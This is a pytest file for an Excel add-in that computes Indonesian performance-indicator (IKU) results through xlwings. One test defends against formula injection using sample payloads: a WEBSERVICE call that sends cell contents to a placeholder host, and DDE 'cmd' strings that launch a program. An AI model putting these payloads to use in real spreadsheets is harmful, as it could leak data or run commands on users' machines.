"""The Excel add-in through xlwings' real remote engine: ribbon scripts on the example workbooks and
worksheet functions (xlwings Server as a process: test_server.py)."""

import asyncio
import json
import math
import zipfile

import openpyxl
import pytest
import xlwings as xw
from xlwings.server import custom_functions_call, custom_scripts_call

from ikuxl.susun import NAMA_RUMUS
from ikuxl.aksi import recalc, rencana
from ikuxl.plan import Rumusan
from ikuxl.workbook.baca import baca_dokumen
from ikuxl.excel import fungsi, skrip

from .bantu import WORKBOOKS
from .muatan import Excel, isi_lembar, jalankan, muatan

MILIK = ("Realisasi", "Komponen", "Ringkasan", "Perjanjian Kinerja", "Pengukuran Kinerja", "Validasi")


def _sama(x, y) -> bool:
    """Numbers travel through JSON on the way to Excel: equal to the last bit but one."""
    if isinstance(x, (int, float)) and isinstance(y, (int, float)):
        return math.isclose(x, y, rel_tol=1e-12)
    return x == y


@pytest.mark.parametrize("nama", ["iku-tanjabbar-2022-contoh-realisasi.xlsx", "iku-kalsel-2020-contoh-realisasi.xlsx"])
def test_tombol_pita_sama_dengan_recalc_tanpa_excel(tmp_path, nama):
    asli = tmp_path / nama
    asli.write_bytes((WORKBOOKS / nama).read_bytes())
    wb = openpyxl.load_workbook(asli)
    wb["IKU"]["S6" if "tanjabbar" in nama else "R5"] = "150 Unit"  # a finding to mark
    wb.save(asli)
    headless = tmp_path / "headless.xlsx"
    hasil = recalc(asli, headless)

    excel = Excel(asli)
    for skrip_nama in ("hitung_capaian", "perbarui_ringkasan"):
        excel.terapkan(jalankan(asli, skrip_nama))
    acuan = openpyxl.load_workbook(headless)
    for lembar in MILIK:
        a, b = isi_lembar(excel.wb[lembar]), isi_lembar(acuan[lembar])
        assert a.keys() == b.keys(), lembar
        assert {k: (a[k], b[k]) for k in a if not _sama(a[k], b[k])} == {}, lembar
    grafik = rencana(baca_dokumen(asli))[0]["Ringkasan"].grafik
    assert len(grafik) >= 2 and excel.grafik == {"Ringkasan": len(grafik)}
    [pesan] = [a for a in excel.pesan if "indikator dihitung" in a]
    assert pesan.startswith(f"{hasil.indikator} indikator dihitung") and f"{hasil.galat} galat" in pesan
    ditandai = {sel for (lembar, sel), warna in excel.warna.items() if lembar == "IKU" and str(warna).lower() == "#ffc7ce"}
    assert ditandai == {t.sel for t in hasil.temuan if t.lembar == "IKU" and t.tingkat == "galat"}


def test_validasi_menghapus_tanda_lama(tmp_path):
    """A cell marked by the previous run (listed on the Validasi sheet) loses its colour once fixed."""
    path = tmp_path / "a.xlsx"
    path.write_bytes((WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx").read_bytes())
    wb = openpyxl.load_workbook(path)
    wb["IKU"]["S6"] = "150 Unit"
    wb.save(path)
    recalc(path)  # Validasi now lists S6
    wb = openpyxl.load_workbook(path)
    wb["IKU"]["S6"] = 150
    wb.save(path)
    aksi = jalankan(path, "validasi")
    warna = [
        (a["start_row"], a["start_column"], a["args"][0])
        for a in aksi
        if a["func"] == "setRangeColor" and a["sheet_position"] == 1
    ]
    assert (5, 18, None) in warna  # S6 cleared
    assert not any(str(w).lower() == "#ffc7ce" for *_, w in warna)


def test_bukan_workbook_iku_pesan_jelas(tmp_path):
    path = tmp_path / "laporan.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "Data"
    wb.active["A1"] = "bukan IKU"
    wb.save(path)
    with pytest.raises(xw.XlwingsError, match="laporan.xlsx: lembar IKU tidak ada"):
        jalankan(path, "hitung_capaian")


async def _fungsi(nama, *args):
    return await custom_functions_call(
        {"func_name": nama, "args": list(args), "client": "Office.js", "version": xw.__version__, "runtime": "1.4"}, fungsi
    )


def panggil(nama, *args):
    return asyncio.run(_fungsi(nama, *args))


def test_capaian_larik_kosong_teks_dan_alasan():
    hasil = panggil(
        "CAPAIAN",
        [[7], [8], [0], [None], ["20 Unit"], ["80 - 90"]],
        [[6.5], [9], [5], [None], ["18"], [95]],
        [["negatif"], ["negatif"], ["negatif"], [None], ["positif"], ["positif"]],
        [[None]],
    )
    assert hasil[0][0] == pytest.approx(107.142857142857) and hasil[1][0] == 87.5
    assert hasil[2][0] == "tidak dapat dihitung: target 0" and hasil[3][0] == ""
    assert hasil[4][0] == 90.0 and hasil[5][0] == pytest.approx(95 / 90 * 100)  # positif above the range (SMK)
    assert panggil("CAPAIAN", [["80 - 90"]], [[95]], [["stabil"]], [[None]]) == [[pytest.approx((180 - 95) / 90 * 100)]]
    assert panggil("CAPAIAN", [[10]], [[12]], [["negatif"]], [["kebalikan"]]) == [[pytest.approx(83.3333333333)]]
    with pytest.raises(xw.XlwingsError, match="ukuran rentang"):
        panggil("CAPAIAN", [[1], [2]], [[1], [2], [3]], [["positif"]], [[None]])


def test_capaian_polaritas_kosong_seperti_kolom_workbook():
    """A blank polaritas cell is not computable, exactly as the workbook's own capaian column says
    (kolom.capaian_sel), never silently positif; an omitted polaritas argument means positif."""
    from ikuxl.kolom import aturan, capaian_sel, metode_baku, polaritas_baku

    def kolom(polaritas):  # the workbook's helper columns of a row in force: polaritas and metode baku, then aturan
        return capaian_sel(aturan(True, polaritas_baku(True, polaritas), metode_baku(True, None)), 150, 120)

    hasil = panggil("CAPAIAN", [[150], [150]], [[120], [120]], [["positif"], [None]])
    assert hasil[0][0] == 80.0 == kolom("positif")
    assert hasil[1][0] == kolom(None)  # a row in force, polaritas blank
    assert hasil[1][0] == "tidak dapat dihitung: polaritas belum diisi"
    assert panggil("CAPAIAN", [[150]], [[120]]) == [[80.0]]
    from xlwings.server import custom_functions_meta  # and the help Excel shows while the formula is typed says so

    [capaian] = [f for f in custom_functions_meta(fungsi)["functions"] if f["name"] == "CAPAIAN"]
    [bantuan] = [p["description"] for p in capaian["parameters"] if p["name"] == "polaritas"]
    assert "sel kosong: tidak dapat dihitung" in bantuan and "kosong = positif" not in bantuan


def test_kategori_dengan_skala_referensi():
    assert panggil("KATEGORI", [[90.5], [91], [None], ["tidak dapat dihitung: target 0"]], [[None]]) == [
        ["Tinggi"],
        ["Sangat Tinggi"],
        [""],
        ["Tidak dapat dihitung"],
    ]
    skala = [[">", 85, "Memuaskan"], [">", 75, "Sangat Baik"], [None, None, "Kurang"]]
    assert panggil("KATEGORI", [[85], [85.5]], skala) == [["Sangat Baik"], ["Memuaskan"]]


def test_nilai_rumus_dan_angka():
    assert panggil("NILAI", [["(%) = [Layak] / [RTLH] × 100"]], [["Layak", "RTLH"]], [[30, 120], [1, 0]]) == [
        [25.0],
        ["tidak dapat dihitung: pembagian dengan nol"],
    ]
    assert panggil("NILAI", [["[a] +"]], [["a", 1]])[0][0].startswith("tidak dapat dihitung: rumus tidak dapat dibaca")
    angka = panggil("ANGKA", [["9,85 Ha"], ["1.234,5"], [""], ["1.500"], [12]])
    assert angka[:3] == [[9.85], [1234.5], [""]] and angka[4] == [12]
    assert angka[3][0].startswith('bukan angka: "1.500" ambigu')


# Texts staff may type that Excel's formula setter would otherwise take for a formula, a date or a boolean, in
# IKU cells whose text ikuxl's sheets hold as a value: indicators on Komponen, sasaran and jabatan on Ringkasan
# (Realisasi shows IKU's cells through formulas)
MIRIP_RUMUS = {
    "G5": '+WEBSERVICE("http://x.example/?"&A1)',
    "G8": "@SUM(1+1)*cmd|' /C calc'!A0",
    "G6": "-2+3+cmd|' /C calc'!A0",
    "G7": " =1+1",
    "G9": '\t=HYPERLINK("http://x.example")',
    "C5": "1/2",
    "D5": "TRUE",
    "C6": "'kutip",
}


def test_teks_mirip_rumus_tetap_teks(tmp_path):
    """Every text goes to the live book as text (the apostrophe), whatever it starts with; a negative number
    typed on Komponen stays a number and ikuxl's own formulas (shared down a column in the file) stay formulas."""
    path = tmp_path / "a.xlsx"
    path.write_bytes((WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx").read_bytes())
    wb = openpyxl.load_workbook(path)
    for sel, teks in MIRIP_RUMUS.items():
        wb["IKU"][sel].value, wb["IKU"][sel].data_type = teks, "s"
    assert wb["Komponen"]["C6"].value == "Perbaiki Rumah Tidak Layak huni bagi MBR"  # TJB-02's only component
    wb["Komponen"]["D6"] = -5  # its TW I
    wb.save(path)
    plan = rencana(baca_dokumen(path))[0]
    rumus = {"=" + lp.rumus(r, c) for lp in plan.lembar for (r, c), s in lp.sel.items() if isinstance(s.nilai, Rumusan)}
    excel = Excel(path)
    for nama in ("validasi", "hitung_capaian", "perbarui_ringkasan"):
        aksi = jalankan(path, nama)
        ditulis = [v for a in aksi if a["func"] in ("setFormula", "setValues") for b in a["values"] for v in b]
        assert [v for v in ditulis if isinstance(v, str) and v and not v.startswith("'") and v not in rumus] == []
        assert any(v in rumus for v in ditulis) or nama == "validasi"
        excel.terapkan(aksi)
    teks = {}
    for lp in plan.lembar:
        if lp.nama in MILIK:
            for (r, c), s in lp.sel.items():
                if isinstance(s.nilai, str):
                    sel = excel.wb[lp.nama].cell(r, c)
                    teks[s.nilai] = (sel.value, sel.data_type)
    assert {t: v for t, v in teks.items() if v != (t, "s")} == {}
    assert set(MIRIP_RUMUS.values()) <= teks.keys()  # as typed, leading blanks too (Realisasi's mirror shows them)
    assert excel.wb["Komponen"]["D6"].value == -5
    assert excel.wb["Realisasi"]["K6"].value == "=" + plan["Realisasi"].rumus(6, 11)  # TJB-02's Realisasi TW I


def test_lembar_berganti_huruf_dibaca_seperti_excel(tmp_path):
    """Staff renamed IKU and Realisasi in lower case: Excel matches sheet names regardless of case, so do
    the file reader and the ribbon path: the same capaian, and no second "Realisasi" beside "realisasi"."""
    nama = "iku-tanjabbar-2022-contoh-realisasi.xlsx"
    acuan = tmp_path / "acuan.xlsx"
    acuan.write_bytes((WORKBOOKS / nama).read_bytes())
    kecil = tmp_path / nama
    with zipfile.ZipFile(acuan) as zin, zipfile.ZipFile(kecil, "w", zipfile.ZIP_DEFLATED) as zout:
        for n in zin.namelist():  # renamed as Excel stores it (openpyxl would make "iku1" of a case-only rename)
            isi = zin.read(n)
            zout.writestr(
                n,
                isi.replace(b'name="IKU"', b'name="iku"').replace(b'name="Realisasi"', b'name="realisasi"')
                if n == "xl/workbook.xml"
                else isi,
            )
    hasil_acuan, hasil_kecil = recalc(acuan, tmp_path / "a.xlsx"), recalc(kecil, tmp_path / "k.xlsx")
    assert (hasil_kecil.indikator, hasil_kecil.capaian_rata) == (hasil_acuan.indikator, hasil_acuan.capaian_rata)
    assert hasil_kecil.capaian_rata is not None
    assert [n for n in openpyxl.load_workbook(tmp_path / "k.xlsx").sheetnames if n.casefold() == "realisasi"] == ["realisasi"]

    aksi = jalankan(kecil, "hitung_capaian")
    assert not [a for a in aksi if a["func"] == "addSheet"]
    excel = Excel(kecil)
    excel.terapkan(aksi)
    dihitung = isi_lembar(excel.wb["realisasi"])
    acuan = isi_lembar(openpyxl.load_workbook(tmp_path / "a.xlsx")["Realisasi"])
    assert {k: v for k, v in dihitung.items() if not _sama(v, acuan.get(k))} == {}


def test_tombol_menerapkan_semua_isian_rencana_lembar(tmp_path):
    """One contract for both shells: every field of a sheet plan is applied in Excel too, through xlwings'
    API or the ribbon's Office.js callback. Hitung Capaian first lifts the protection of the sheets it
    rewrites (Excel refuses writes to a protected sheet), and at the end sets what `ikuxl recalc` writes
    into the file: protection, tab colour, print set-up, filter, input rules."""
    from dataclasses import fields

    from ikuxl.plan import LembarPlan

    assert skrip.LEWAT_XLWINGS.isdisjoint(skrip.PENGATURAN_LEMBAR)
    assert skrip.LEWAT_XLWINGS | skrip.PENGATURAN_LEMBAR == {f.name for f in fields(LembarPlan) if not f.name.startswith("_")}
    assert set(skrip.TIDAK_DI_DESKTOP) < skrip.PENGATURAN_LEMBAR  # declared, with what the sheet keeps instead
    asli = WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx"
    aksi = jalankan(asli, "hitung_capaian")
    makro = [(i, a["args"][0], json.loads(a["args"][1])) for i, a in enumerate(aksi) if a["func"] == "runMacro"]
    assert [m[1] for m in makro] == [skrip.BUKA_LINDUNGAN, skrip.ATUR_LEMBAR]
    (buka, _, dibuka), (atur, _, diatur) = makro
    tulis = [i for i, a in enumerate(aksi) if a["func"] in ("setValues", "setFormula", "sheetClear")]
    assert buka < min(tulis) and atur > max(tulis)
    assert dibuka == ["Realisasi", "Komponen", "Perjanjian Kinerja", "Pengukuran Kinerja", "Validasi"]
    plan = rencana(baca_dokumen(asli))[0]
    assert diatur == [skrip.pengaturan_lembar(plan[n]) for n in dibuka]
    realisasi = diatur[0]
    assert realisasi["lindungi"] and realisasi["warna_tab"] == "#375623" and realisasi["kolom_cetak"] == "A:B"
    assert realisasi["putus_kolom"] and realisasi["saring"]
    # xlwings' own API: frozen panes where the file has them, the plan's row heights
    posisi = {s: i for i, s in enumerate(openpyxl.load_workbook(asli, read_only=True).sheetnames)}
    beku = {(a["sheet_position"], a["args"][0]) for a in aksi if a["func"] == "freezePaneAtRange"}
    assert beku == {(posisi[n], plan[n].beku) for n in dibuka if plan[n].beku}
    tinggi = {(a["sheet_position"], a["start_row"] + 1, a["args"][0]) for a in aksi if a["func"] == "setRowHeight"}
    assert tinggi == {(posisi[n], r, h) for n in dibuka for r, h in plan[n].tinggi.items()}
    nama = {a["args"][0]: a["args"][1] for a in aksi if a["func"] in ("namesAdd", "setNameRefersTo")}
    # the names of the sheets written, those Realisasi's formulas read (named texts, floor and cap, the scale),
    # the signature settings the Perjanjian Kinerja form reads, and every sheet's printed rows (Cetak_…)
    assert nama == {
        k: "=" + v
        for k, v in plan.nama.items()
        if v.split("!")[0].strip("'") in dibuka
        or (k in NAMA_RUMUS and {"Realisasi", "Ringkasan"} & set(dibuka))
        or (k in skrip.NAMA_TTD and "Perjanjian Kinerja" in dibuka)
        or k.startswith("Cetak_")
    }


def test_setiap_argumen_fungsi_punya_penjelasan():
    """Excel shows each argument's help while a formula is typed: none is "Positional argument 1"."""
    from xlwings.server import custom_functions_meta

    meta = custom_functions_meta(fungsi)["functions"]
    assert sorted(f["name"] for f in meta) == ["ANGKA", "CAPAIAN", "KATEGORI", "NILAI"]
    tanpa = [
        (f["name"], p["name"])
        for f in meta
        for p in f["parameters"]
        if not p.get("description") or p["description"].startswith("Positional")
    ]
    assert tanpa == []


def test_grafik_lama_dihapus_semua_lalu_diganti(tmp_path):
    """Perbarui Ringkasan on a book whose Ringkasan has charts (as Excel sends it, the sheet being among those the
    ribbon sends): every old chart is deleted, the last first (deleting renumbers the ones after it), before the
    new ones are added, so charts do not pile up and titles go to the new charts."""
    m = muatan(WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx")
    lama = [
        {"name": f"Chart {i}", "chart_type": "bar_clustered", "top": 0, "left": 0, "width": 100, "height": 100} for i in (1, 2, 3)
    ]
    next(s for s in m["sheets"] if s["name"] == "Ringkasan")["charts"] = lama
    book = xw.Book(json=m)
    try:
        aksi = asyncio.run(custom_scripts_call(skrip, "perbarui_ringkasan", typehint_to_value={xw.Book: book})).json()["actions"]
    finally:
        book.close()
    grafik = [(a["func"], a["args"][0]) for a in aksi if a["func"] in ("deleteChart", "addChart")]
    baru = len(rencana(baca_dokumen(WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx"))[0]["Ringkasan"].grafik)
    assert grafik[:3] == [("deleteChart", 2), ("deleteChart", 1), ("deleteChart", 0)]
    assert [f for f, _ in grafik[3:]] == ["addChart"] * baru


def test_kolom_bantu_dikelompokkan_seperti_berkas():
    """Hitung Capaian in Excel groups the helper columns in a collapsed outline, as the file `ikuxl recalc` writes
    does (xlwings only hid them): the ribbon's callback gets the same runs of columns as the file's outline."""
    from openpyxl.utils import get_column_letter

    asli = WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx"
    diatur = {
        l["nama"]: l
        for a in jalankan(asli, "hitung_capaian")
        if a["func"] == "runMacro" and a["args"][0] == skrip.ATUR_LEMBAR
        for l in json.loads(a["args"][1])
    }
    wb = openpyxl.load_workbook(asli)
    for nama in ("Realisasi", "Komponen"):
        kolom = sorted(
            c for d in wb[nama].column_dimensions.values() if d.outlineLevel and d.hidden for c in range(d.min, d.max + 1)
        )
        runtun = [[kolom[0], kolom[0]]]
        for c in kolom[1:]:
            runtun.append([c, c]) if c > runtun[-1][1] + 1 else runtun[-1].__setitem__(1, c)
        assert diatur[nama]["kelompok_kolom"] == [f"{get_column_letter(a)}:{get_column_letter(b)}" for a, b in runtun]
    assert len(diatur["Realisasi"]["kelompok_kolom"]) == 1  # the helpers side by side, one group
